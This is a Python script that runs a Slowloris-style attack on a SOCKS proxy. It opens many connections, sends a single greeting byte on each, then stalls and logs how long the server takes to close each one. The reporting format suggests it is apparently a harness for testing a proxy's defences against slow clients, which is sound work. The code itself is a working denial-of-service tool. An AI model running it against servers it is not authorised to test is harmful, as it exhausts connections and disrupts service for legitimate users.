#!/usr/bin/env python3
"""Slowloris against a SOCKS server: N connections that each send one byte
of a greeting and then stall, and a record of when the server closes each.

usage: slowloris.py --proxy HOST:PORT -n N [--src ADDR,...] [--wait SECS]

Prints "ready opened=N" once every connection is open and has sent its
byte, then, when all are closed or --wait seconds have passed,
  result opened=N closed=N open=N close_min=S close_p50=S close_max=S
with close times in seconds from the byte being sent.  Exit status 0 unless
the connections could not be opened.
"""
import argparse
import errno
import resource
import selectors
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--proxy", required=True)
    ap.add_argument("-n", type=int, required=True)
    ap.add_argument("--src", default="", help="source addresses to spread over")
    ap.add_argument("--wait", type=float, default=30.0)
    o = ap.parse_args()
    host, _, port = o.proxy.rpartition(":")
    proxy = (host.strip("[]"), int(port))
    fam = socket.AF_INET6 if ":" in proxy[0] else socket.AF_INET
    srcs = [s for s in o.src.split(",") if s]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    sel = selectors.DefaultSelector()
    sent_at = {}
    closed = []
    t_open = time.monotonic()
    pending = 0
    for i in range(o.n):
        s = socket.socket(fam)
        s.setblocking(False)
        if srcs:
            s.bind((srcs[i % len(srcs)], 0))
        rc = s.connect_ex(proxy)
        if rc not in (0, errno.EINPROGRESS):
            print("connect %d: %s" % (i, errno.errorcode.get(rc, rc)), file=sys.stderr)
            return 1
        sel.register(s, selectors.EVENT_WRITE)
        pending += 1
        # keep the SYN backlog moderate: drain completions as we go
        while pending > 512:
            for key, _ in sel.select(1.0):
                pending -= on_event(sel, key, sent_at, closed)
            if time.monotonic() - t_open > 60:
                print("connections not completing", file=sys.stderr)
                return 1
    while pending > 0 and time.monotonic() - t_open < 60:
        for key, _ in sel.select(1.0):
            pending -= on_event(sel, key, sent_at, closed)
    if pending > 0:
        print("%d connections never completed" % pending, file=sys.stderr)
        return 1
    print("ready opened=%d setup_secs=%.2f" % (len(sent_at), time.monotonic() - t_open),
          flush=True)
    end = time.monotonic() + o.wait
    while len(closed) < len(sent_at) and time.monotonic() < end:
        for key, _ in sel.select(0.5):
            on_event(sel, key, sent_at, closed)
    closed.sort()
    n = len(closed)
    print("result opened=%d closed=%d open=%d close_min=%.2f close_p50=%.2f close_max=%.2f" %
          (len(sent_at), n, len(sent_at) - n, closed[0] if n else -1,
           closed[n // 2] if n else -1, closed[-1] if n else -1), flush=True)
    return 0


def on_event(sel, key, sent_at, closed):
    """Handle one readiness event; returns 1 when a connect completed."""
    s = key.fileobj
    if s not in sent_at:
        err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            raise OSError(err, "connect: " + errno.errorcode.get(err, str(err)))
        s.send(b"\x05")  # VER of a greeting, and nothing more
        sent_at[s] = time.monotonic()
        sel.modify(s, selectors.EVENT_READ)
        return 1
    try:
        d = s.recv(64)
    except ConnectionResetError:
        d = b""
    if not d:
        closed.append(time.monotonic() - sent_at[s])
        sel.unregister(s)
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
